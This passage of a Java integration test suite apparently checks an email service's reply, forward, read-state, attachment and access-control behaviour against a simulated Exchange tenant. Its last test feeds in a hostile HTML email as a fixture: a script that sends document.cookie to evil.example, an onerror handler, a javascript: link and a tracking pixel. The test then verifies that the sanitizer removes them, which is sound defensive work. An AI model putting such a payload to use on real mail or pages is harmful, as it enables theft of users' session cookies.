                + "\"],\"bcc\":[{\"address\":\"" + archive + "\"}],\"body\":{\"contentType\":\"text\",\"content\":\"All of you.\"}}");
        assertEquals(202, answered.status(), answered.body());
        SentMail replyAll = sentMail("RE: " + subject);
        assertEquals(List.of("customer@example.com", "colleague@example.com"), replyAll.to(), "neither support@ nor Alice");
        assertEquals(List.of("manager@example.com", sales), replyAll.cc(), "the original Cc kept, the new Cc added, Alice left out");
        assertEquals(List.of(archive), replyAll.bcc());
        assertEquals(original.get("internetMessageId").asText(), replyAll.inReplyTo(), "in the thread");
        String body = replyAll.body();
        assertTrue(body.indexOf("All of you.") < body.indexOf("Alice, Support team")
                && body.indexOf("Alice, Support team") < body.indexOf("Who can help?") && body.indexOf("All of you.") >= 0,
                "the text, then the signature, above the quoted original: " + body);
        // The Bcc mailbox got the reply; neither its copy nor the Cc'd mailbox's names it.
        for (String mailbox : List.of(sales, archive)) {
            var copy = workspace.tenant.inbox(mailbox).stream().filter(mail -> ("RE: " + subject).equals(mail.subject()))
                    .findFirst().orElseThrow(() -> new AssertionError("delivered to " + mailbox));
            assertFalse(copy.to().contains(archive) || copy.cc().contains(archive), "the Bcc is not shown: " + copy);
            assertEquals(List.of("manager@example.com", sales), copy.cc(), copy.toString());
        }

        // Forward: the original quoted under the text and the signature, to sales@, with the thread's conversation.
        var forwarded = alice.api().post("/api/v1/messages/" + id + "/forward", "{\"to\":[{\"address\":\"" + sales
                + "\",\"name\":\"Sales\"}],\"body\":{\"contentType\":\"text\",\"content\":\"Sales, this is yours.\"}}");
        assertEquals(202, forwarded.status(), forwarded.body());
        SentMail forward = sentMail("FW: " + subject);
        assertEquals(List.of(sales), forward.to());
        assertEquals(support, forward.from().toLowerCase());
        assertTrue(forward.body().indexOf("Sales, this is yours.") >= 0
                && forward.body().indexOf("Alice, Support team") < forward.body().indexOf("Who can help?"), forward.body());
        assertTrue(workspace.tenant.inbox(sales).stream().anyMatch(mail -> ("FW: " + subject).equals(mail.subject())));
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'FORWARDED' AND user_id = ? AND mailbox = ?",
                alice.userId(), support));

        // Bad input: no recipient, or one that is not an address: 400 naming the field; nothing goes to Microsoft.
        int before = workspace.tenant.sentMail().size();
        String text = "\"body\":{\"contentType\":\"text\",\"content\":\"x\"}";
        assertInvalid(alice.api().post("/api/v1/messages/" + id + "/forward", "{\"to\":[]," + text + "}"), "to");
        assertInvalid(alice.api().post("/api/v1/messages/" + id + "/forward", "{" + text + "}"), "to");
        assertInvalid(alice.api().post("/api/v1/messages/" + id + "/forward", "{\"to\":[\"not an address\"]," + text + "}"), "to");
        assertInvalid(alice.api().post("/api/v1/messages/" + id + "/reply", "{\"cc\":[\"nobody\"]," + text + "}"), "cc");
        assertInvalid(alice.api().post("/api/v1/messages/" + id + "/reply", "{\"bcc\":[{\"address\":\"a@b\"}]," + text + "}"), "bcc");
        // Unknown or unreadable: 404, the same for both.
        for (String unknown : List.of("999999999", "not-a-number")) {
            var missing = alice.api().post("/api/v1/messages/" + unknown + "/forward", "{\"to\":[\"" + sales + "\"]," + text + "}");
            assertEquals(404, missing.status(), missing.body());
            assertEquals(404, alice.api().post("/api/v1/messages/" + unknown + "/reply", "{" + text + "}").status());
        }
        Person mallory = workspace.person("mallory");
        mallory.connect();
        var notHers = mallory.api().post("/api/v1/messages/" + id + "/forward", "{\"to\":[\"" + sales + "\"]," + text + "}");
        assertEquals(404, notHers.status(), "another person's message does not exist for her: " + notHers.body());
        // Removed in Outlook: 409 with a sentence.
        String gone = "Withdrawn " + workspace.suffix;
        String graphId = workspace.tenant.deliver(support, "customer@example.com", gone, "Never mind");
        syncNow(alice, shared);
        String goneId = awaitMessage(alice, "q=" + encode(gone), m -> true).get("id").asText();
        workspace.tenant.deleteMessage(support, graphId);
        syncNow(alice, shared);
        awaitMessage(alice, "includeRemoved=true&q=" + encode(gone), m -> m.get("removed").asBoolean());
        for (String action : List.of("reply", "forward")) {
            var refused = alice.api().post("/api/v1/messages/" + goneId + "/" + action, "{\"to\":[\"" + sales + "\"]," + text + "}");
            assertEquals(409, refused.status(), refused.body());
            assertEquals("MESSAGE_REMOVED", refused.json().get("code").asText());
            assertTrue(refused.json().get("detail").asText().contains("removed"), refused.body());
        }
        assertEquals(before, workspace.tenant.sentMail().size(), "none of these reached Microsoft");
    }

    static void assertInvalid(ApiClient.Reply reply, String field) {
        assertEquals(400, reply.status(), reply.body());
        assertEquals("application/problem+json", reply.header("Content-Type").split(";")[0], reply.toString());
        List<String> fields = new ArrayList<>();
        reply.json().path("errors").forEach(error -> fields.add(error.get("field").asText()));
        assertTrue(fields.stream().anyMatch(name -> name.equals(field) || name.startsWith(field + "[") || name.startsWith(field + ".")),
                "names " + field + ": " + reply.body());
    }

    @Test
    void readStateIsWrittenToExchangeAndARefusalIsReported() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID personal = alice.connect();
        UUID shared = alice.addSharedOk(personal, support);
        awaitCurrent(alice, shared);
        String subject = "Read me " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", subject, "text");
        syncNow(alice, shared);
        String id = awaitMessage(alice, "q=" + encode(subject), m -> true).get("id").asText();

        var marked = alice.api().patch("/api/v1/messages/" + id, "{\"isRead\":true}");
        assertEquals(200, marked.status(), marked.body());
        assertTrue(marked.json().get("isRead").asBoolean());
        assertEquals(1, Sql.count("SELECT count(*) FROM audit_event WHERE action = 'MARKED_READ' AND user_id = ? AND mailbox = ?",
                alice.userId(), support));
        String graphId = (String) Sql.single("SELECT graph_id FROM message WHERE id = ?", Long.parseLong(id));
        assertTrue(workspace.tenant.isRead(support, graphId), "Exchange has it as read (what Outlook shows)");

        workspace.tenant.revokeFullAccess(support, alice.microsoft().upn());
        var refused = alice.api().patch("/api/v1/messages/" + id, "{\"isRead\":false}");
        assertEquals(403, refused.status(), refused.body());
        assertEquals("MAILBOX_ACCESS_DENIED", refused.json().get("code").asText());
        // Read as an auditor would: Exchange's refusal also ended alice's reading, and a message that arrived in the
        // second her access ended is no longer hers to read.
        assertEquals(Boolean.TRUE, Sql.single("SELECT is_read FROM message WHERE id = ?", Long.parseLong(id)), "nothing changed locally");
        assertTrue(workspace.tenant.isRead(support, graphId), "nor at Exchange");

        // The sync of the shared row turns red with the product's sentence, and recovers once access is back.
        syncNow(alice, shared);
        JsonNode red = alice.awaitConnection(shared, view -> "error".equals(view.get("health").get("badge").asText()), WAIT);
        assertEquals("MAILBOX_ACCESS_DENIED", red.get("health").get("error").get("code").asText(), red.toString());
        assertEquals("Microsoft rejected access to this mailbox", red.get("health").get("error").get("message").asText());
        assertNotEquals("error", alice.badge(personal), "only the shared row Exchange refused turns red");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        syncNow(alice, shared);
        JsonNode green = alice.awaitConnection(shared, view -> "healthy".equals(view.get("health").get("badge").asText()), WAIT);
        assertEquals("healthy", green.get("health").get("badge").asText(), green.toString());
    }

    @Test
    void historyStaysVisibleAfterDisconnectAndAnotherWorkspaceSeesNothing() {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.seedMessages(support, "inbox", 25);
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        awaitCurrent(alice, shared);
        String id = firstPage(alice, "mailbox=" + encode(support)).get("items").get(0).get("id").asText();

        assertEquals(204, alice.api().delete("/api/v1/outlook/connections/" + shared).status());
        assertEquals(25, firstPage(alice, "mailbox=" + encode(support) + "&limit=100").get("items").size(), "history stays");
        alice.api().get("/api/v1/mailboxes").json()
                .forEach(mailbox -> assertFalse(support.equals(mailbox.get("address").asText()), "no longer in the From list"));
        var patch = alice.api().patch("/api/v1/messages/" + id, "{\"isRead\":true}");
        assertEquals(403, patch.status(), patch.body());

        TestWorkspace other = new TestWorkspace(base);
        Person mallory = other.person("mallory");
        mallory.connect();
        assertEquals(0, firstPage(mallory, "mailbox=" + encode(support)).get("items").size());
        assertEquals(404, mallory.api().get("/api/v1/messages/" + id).status());
        assertEquals(404, mallory.api().patch("/api/v1/messages/" + id, "{\"isRead\":true}").status());
        assertEquals(404, mallory.api().post("/api/v1/messages/" + id + "/reply",
                "{\"body\":{\"contentType\":\"text\",\"content\":\"x\"}}").status());
        firstPage(mallory, "limit=200").get("items")
                .forEach(item -> assertFalse(support.equals(item.get("mailbox").asText())));
        assertEquals(400, alice.api().get("/api/v1/messages?cursor=garbage").status());
        assertEquals(400, alice.api().get("/api/v1/messages?limit=100000").status());
    }

    // ---- helpers

    static ApiClient.Reply sendWithKey(Person person, String path, String key, String json) {
        return person.api().send(person.api().request(path).header("Content-Type", "application/json")
                .header("Idempotency-Key", key).POST(java.net.http.HttpRequest.BodyPublishers.ofString(json)));
    }

    @Test
    void sendingFromSupportWithA1MbAndA12MbFileDeliversBothIntactTheLargeOneThroughAnUploadSession() throws Exception {
        Person alice = workspace.person("alice");
        Person bob = workspace.person("bob");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        UUID shared = alice.addSharedOk(alice.connect(), support);
        String bobAddress = bob.microsoft().upn().toLowerCase();
        OutgoingAttachments outgoing = workspace.tenant.outgoingAttachments();
        long inTransactionBefore = controls.microsoftCallsInTransaction().json().get("count").asLong();

        String subject = "Invoice and scans " + workspace.suffix;
        byte[] invoice = randomBytes(1 << 20, 1);
        byte[] scans = randomBytes(12 << 20, 2);
        String message = "{\"from\":\"" + support + "\",\"to\":[\"" + bobAddress + "\"],\"subject\":\"" + subject
                + "\",\"body\":{\"contentType\":\"text\",\"content\":\"Both attached.\"}}";
        List<FilePart> files = List.of(new FilePart("invoice.pdf", "application/pdf", invoice),
                new FilePart("scans.zip", "application/zip", scans));
        String key = UUID.randomUUID().toString();
        var sent = sendMultipart(alice, "/api/v1/messages", key, message, files);
        assertEquals(202, sent.status(), sent.body());

        SentMail atMicrosoft = sentMail(subject);
        assertEquals(support, atMicrosoft.from().toLowerCase());
        assertEquals(support, atMicrosoft.savedToSentItemsOf().toLowerCase(), "the copy is in support's Sent Items");
        List<SentAttachment> received = attachmentsOf(atMicrosoft);
        assertEquals(2, received.size(), received.toString());
        assertEquals("invoice.pdf", received.get(0).name());
        assertEquals("application/pdf", received.get(0).contentType());
        assertEquals(sha256(invoice), received.get(0).sha256(), "the 1 MB file arrived intact");
        assertFalse(received.get(0).viaUploadSession(), "under 3 MB: one POST with its bytes");
        assertEquals("scans.zip", received.get(1).name());
        assertEquals(scans.length, received.get(1).size());
        assertEquals(sha256(scans), received.get(1).sha256(), "the 12 MB file arrived intact");
        assertTrue(received.get(1).viaUploadSession(), "from 3 MB: through an upload session");
        assertEquals(0, outgoing.openUploadSessions());
        // The recipient gets it, and support's Sent Items shows it in Workestra.
        assertEquals(1, workspace.tenant.subjects(bobAddress, "inbox").stream().filter(subject::equals).count());
        syncNow(alice, shared);
        awaitMessage(alice, "folder=sent&q=" + encode(subject), m -> support.equals(m.get("mailbox").asText()));

        // The Idempotency-Key covers the files: the same request again sends nothing; other files with it are refused.
        var retried = sendMultipart(alice, "/api/v1/messages", key, message, files);
        assertEquals(202, retried.status(), retried.body());
        assertEquals(1, sentWithSubject(subject), "the retry did not send again");
        var otherFile = sendMultipart(alice, "/api/v1/messages", key, message,
                List.of(new FilePart("invoice.pdf", "application/pdf", randomBytes(1 << 20, 3))));
        assertEquals(422, otherFile.status(), otherFile.body());
        assertEquals("IDEMPOTENCY_KEY_REUSED", otherFile.json().get("code").asText());

        // A reply with a file: Graph's createReply draft, the file, then send; in the thread.
        String question = "Question with file " + workspace.suffix;
        workspace.tenant.deliver(support, "customer@example.com", question, "Can you send the form?");
        syncNow(alice, shared);
        JsonNode original = awaitMessage(alice, "q=" + encode(question), m -> true);
        byte[] form = randomBytes(200_000, 4);
        var replied = sendMultipart(alice, "/api/v1/messages/" + original.get("id").asText() + "/reply", null,
                "{\"body\":{\"contentType\":\"text\",\"content\":\"Here it is.\"}}",
                List.of(new FilePart("form.docx", "application/octet-stream", form)));
        assertEquals(202, replied.status(), replied.body());
        SentMail reply = sentMail("RE: " + question);
        assertEquals(original.get("internetMessageId").asText(), reply.inReplyTo(), "the reply threads");
        assertEquals(List.of("customer@example.com"), reply.to());
        List<SentAttachment> replyFiles = attachmentsOf(reply);
        assertEquals(1, replyFiles.size(), replyFiles.toString());
        assertEquals(sha256(form), replyFiles.get(0).sha256());
        assertEquals(0, outgoing.draftCount(), "every draft was sent");
        JsonNode inTransaction = controls.microsoftCallsInTransaction().json();
        assertEquals(inTransactionBefore, inTransaction.get("count").asLong(),
                "drafts, uploads and sends ask Microsoft with no transaction open: " + inTransaction);
    }

    @Test
    void aFileOverTheLimitIsRefusedWith413AndAnUploadStoppedHalfWaySendsNothing() throws Exception {
        Person alice = workspace.person("alice");
        String support = workspace.sharedMailbox("support");
        workspace.tenant.grantFullAccess(support, alice.microsoft().upn());
        workspace.tenant.grantSendAs(support, alice.microsoft().upn());
        alice.addSharedOk(alice.connect(), support);
        OutgoingAttachments outgoing = workspace.tenant.outgoingAttachments();
        int draftsBefore = outgoing.draftCount();

        // Over Workestra's limit (messages.max-attachments-bytes, 35 MB): refused before Microsoft is asked.
        String tooBig = "Too big here " + workspace.suffix;
        var refused = sendMultipart(alice, "/api/v1/messages", null, sendBody(support, "customer@example.com", tooBig, "x"),
                List.of(new FilePart("video.mp4", "video/mp4", randomBytes(36 << 20, 5))));
        assertEquals(413, refused.status(), refused.body());
        assertEquals("PAYLOAD_TOO_LARGE", refused.json().get("code").asText());
        assertTrue(refused.json().get("detail").asText().contains("35 MB"), refused.body());
        assertEquals(0, sentWithSubject(tooBig));

        // Over Exchange's limit (the tenant's maximum message size): Exchange refuses, the draft goes, nothing is sent.
        String overExchange = "Too big for Exchange " + workspace.suffix;
        String key = UUID.randomUUID().toString();
        try {
            outgoing.maxMessageBytes(10L << 20);
            var tooLarge = sendMultipart(alice, "/api/v1/messages", key, sendBody(support, "customer@example.com", overExchange, "x"),
                    List.of(new FilePart("scans.zip", "application/zip", randomBytes(12 << 20, 6))));
            assertEquals(413, tooLarge.status(), tooLarge.body());
            assertEquals("PAYLOAD_TOO_LARGE", tooLarge.json().get("code").asText());
            assertTrue(tooLarge.json().get("detail").asText().contains("35 MB"), tooLarge.body());
        } finally {
            outgoing.maxMessageBytes(OutgoingAttachments.DEFAULT_MAX_MESSAGE_BYTES);
        }
        assertEquals(0, sentWithSubject(overExchange));
        assertEquals(draftsBefore, outgoing.draftCount(), "the refused draft was deleted");

        // Microsoft throttles the upload half way (IncomingBytes): the draft is deleted, nothing is sent, and the
        // person hears when to try again; the key is free, so the same request sends once Microsoft takes it.
        String halfWay = "Stopped half way " + workspace.suffix;
        String message = sendBody(support, "customer@example.com", halfWay, "x");
        List<FilePart> files = List.of(new FilePart("scans.zip", "application/zip", randomBytes(12 << 20, 7)));
        String halfWayKey = UUID.randomUUID().toString();
        try {
            outgoing.incomingBytesPerFiveMinutes(8L << 20);
            var throttled = sendMultipart(alice, "/api/v1/messages", halfWayKey, message, files);
            assertEquals(503, throttled.status(), throttled.body());
            assertEquals("THROTTLED", throttled.json().get("code").asText());
            assertTrue(throttled.json().get("detail").asText().contains("150 MB"), throttled.body());
            assertNotNull(throttled.header("Retry-After"), throttled.toString());
        } finally {
            outgoing.incomingBytesPerFiveMinutes(OutgoingAttachments.DEFAULT_INCOMING_BYTES);
        }
        assertEquals(0, sentWithSubject(halfWay), "an upload stopped half way sends nothing");
        assertEquals(draftsBefore, outgoing.draftCount(), "its draft was deleted");
        assertEquals(0, outgoing.openUploadSessions());
        var retried = sendMultipart(alice, "/api/v1/messages", halfWayKey, message, files);
        assertEquals(202, retried.status(), retried.body());
        assertEquals(1, sentWithSubject(halfWay));
        assertEquals(sha256(files.get(0).content()), attachmentsOf(sentMail(halfWay)).get(0).sha256());
    }

    record FilePart(String name, String contentType, byte[] content) {
    }

    /** A multipart/form-data send: the "message" part with the JSON, one part per file. */
    static ApiClient.Reply sendMultipart(Person person, String path, String key, String json, List<FilePart> files) {
        String boundary = "----workestra" + UUID.randomUUID();
        List<HttpRequest.BodyPublisher> parts = new ArrayList<>();
        parts.add(HttpRequest.BodyPublishers.ofString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"message\"\r\n"
                + "Content-Type: application/json\r\n\r\n" + json + "\r\n", StandardCharsets.UTF_8));
        for (FilePart file : files) {
            parts.add(HttpRequest.BodyPublishers.ofString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\";"
                    + " filename=\"" + file.name() + "\"\r\nContent-Type: " + file.contentType() + "\r\n\r\n", StandardCharsets.UTF_8));
            parts.add(HttpRequest.BodyPublishers.ofByteArray(file.content()));
            parts.add(HttpRequest.BodyPublishers.ofString("\r\n"));
        }
        parts.add(HttpRequest.BodyPublishers.ofString("--" + boundary + "--\r\n"));
        HttpRequest.Builder request = person.api().request(path).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .timeout(Duration.ofSeconds(120))
                .POST(HttpRequest.BodyPublishers.concat(parts.toArray(HttpRequest.BodyPublisher[]::new)));
        if (key != null) {
            request.header("Idempotency-Key", key);
        }
        return person.api().send(request);
    }

    List<SentAttachment> attachmentsOf(SentMail mail) {
        return workspace.tenant.outgoingAttachments().sentAttachments().stream()
                .filter(file -> file.internetMessageId().equals(mail.internetMessageId())).toList();
    }

    static byte[] randomBytes(int size, long seed) {
        byte[] bytes = new byte[size];
        new Random(seed).nextBytes(bytes);
        return bytes;
    }

    static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    /** How many mails Microsoft sent with this subject (a send answers once Microsoft accepted it, so no waiting). */
    long sentWithSubject(String subject) {
        return workspace.tenant.sentMail().stream().filter(mail -> subject.equals(mail.subject())).count();
    }

    static String sendBody(String from, String to, String subject, String text) {
        return "{\"from\":\"" + from + "\",\"to\":[{\"address\":\"" + to + "\"}],\"subject\":\"" + subject
                + "\",\"body\":{\"contentType\":\"text\",\"content\":\"" + text + "\"}}";
    }

    /** The first {@code count} messages Microsoft sent with this subject, oldest first (waits until there are as many). */
    List<SentMail> sentMails(String subject, int count) {
        return await(() -> workspace.tenant.sentMail().stream().filter(mail -> subject.equals(mail.subject())).toList(),
                mails -> mails.size() >= count);
    }

    static List<String> addresses(JsonNode recipients) {
        List<String> addresses = new ArrayList<>();
        recipients.forEach(recipient -> addresses.add(recipient.get("address").asText().toLowerCase()));
        return addresses;
    }

    SentMail sentMail(String subject) {
        return await(() -> workspace.tenant.sentMail().stream().filter(mail -> subject.equals(mail.subject())).findFirst().orElse(null),
                mail -> mail != null);
    }

    static void syncNow(Person person, UUID connection) {
        var reply = person.api().post("/api/v1/outlook/connections/" + connection + "/sync", "");
        assertEquals(202, reply.status(), reply.body());
    }

    static JsonNode awaitCurrent(Person person, UUID connection) {
        JsonNode view = person.awaitConnection(connection, current -> current.get("sync").get("historyComplete").asBoolean()
                && "healthy".equals(current.get("health").get("badge").asText()), Duration.ofSeconds(90));
        assertEquals("healthy", view.get("health").get("badge").asText(), view.toString());
        return view;
    }

    /** The connection's last successful sync came after its last transient failure (or it never had one). */
    static boolean succeededSinceItsLastFailure(JsonNode view) {
        JsonNode failedAt = view.get("sync").get("lastTransientFailureAt");
        JsonNode syncedAt = view.get("health").get("lastSyncAt");
        if (failedAt == null || failedAt.isNull()) {
            return true;
        }
        return syncedAt != null && !syncedAt.isNull() && Instant.parse(syncedAt.asText()).isAfter(Instant.parse(failedAt.asText()));
    }

    static JsonNode firstPage(Person person, String query) {
        var reply = person.api().get("/api/v1/messages?" + query);
        assertEquals(200, reply.status(), reply.body());
        return reply.json();
    }

    static JsonNode awaitMessage(Person person, String query, Predicate<JsonNode> condition) {
        JsonNode found = await(() -> {
            JsonNode items = firstPage(person, query).get("items");
            for (JsonNode item : items) {
                if (condition.test(item)) {
                    return item;
                }
            }
            return null;
        }, item -> item != null);
        assertNotNull(found, "no message for " + query);
        return found;
    }

    static <T> T await(Supplier<T> probe, Predicate<T> condition) {
        long deadline = System.nanoTime() + WAIT.toNanos();
        T value = probe.get();
        while (!condition.test(value) && System.nanoTime() < deadline) {
            TestWorkspace.sleep(200);
            value = probe.get();
        }
        assertTrue(condition.test(value), "condition not met in time, last value: " + value);
        return value;
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @Test
    void hostileMailHtmlReachesTheUiDefusedWhileRawKeepsTheOriginal() {
        Person alice = workspace.person("alice");
        UUID personal = alice.connect();
        String address = alice.microsoft().upn().toLowerCase();
        awaitCurrent(alice, personal);

        String subject = "Invoice " + workspace.suffix;
        String html = "<html><head><style>@import url(https://evil.example/x.css);</style></head><body>"
                + "<p>Your invoice is attached.</p><script>fetch('https://evil.example/?c=' + document.cookie)</script>"
                + "<img src=\"x\" onerror=\"alert(1)\"><img src=\"cid:logo@contoso\" alt=\"Contoso\">"
                + "<img src=\"https://tracker.example/open.gif?u=42\" width=\"1\" height=\"1\">"
                + "<p><a href=\"javascript:alert(2)\">Pay now</a></p></body></html>";
        workspace.tenant.deliverHtml(address, "billing@example.com", subject, html);
        syncNow(alice, personal);
        String id = awaitMessage(alice, "q=" + encode(subject), m -> true).get("id").asText();

        JsonNode safe = alice.api().get("/api/v1/messages/" + id).json().get("body");
        String content = safe.get("content").asText();
        assertEquals("html", safe.get("contentType").asText());
        assertFalse(content.toLowerCase().contains("<script"), content);
        assertFalse(content.toLowerCase().contains("onerror"), content);
        assertFalse(content.toLowerCase().contains("javascript:"), content);
        assertFalse(content.contains("evil.example") || content.contains("tracker.example"), content);
        assertTrue(content.contains("<p>Your invoice is attached.</p>"), content);
        assertTrue(content.contains("Pay now"), content);
        assertTrue(content.contains("cid:logo@contoso"), "inline images stay: " + content);
        assertTrue(safe.get("remoteImagesBlocked").asBoolean(), safe.toString());

        JsonNode withImages = alice.api().get("/api/v1/messages/" + id + "?remoteImages=true").json().get("body");
        assertTrue(withImages.get("content").asText().contains("https://tracker.example/open.gif?u=42"), withImages.toString());
        assertFalse(withImages.get("content").asText().toLowerCase().contains("<script"), withImages.toString());
        assertFalse(withImages.get("remoteImagesBlocked").asBoolean(), withImages.toString());

        JsonNode raw = alice.api().get("/api/v1/messages/" + id + "?raw=true").json().get("body");
        assertEquals("html", raw.get("contentType").asText());
        assertEquals(html, raw.get("content").asText(), "raw is the original as stored");

        Person mallory = new TestWorkspace(base).person("mallory");
        mallory.connect();
        assertEquals(404, mallory.api().get("/api/v1/messages/" + id + "?raw=true").status(), "raw reads only what the caller may read");
    }
}
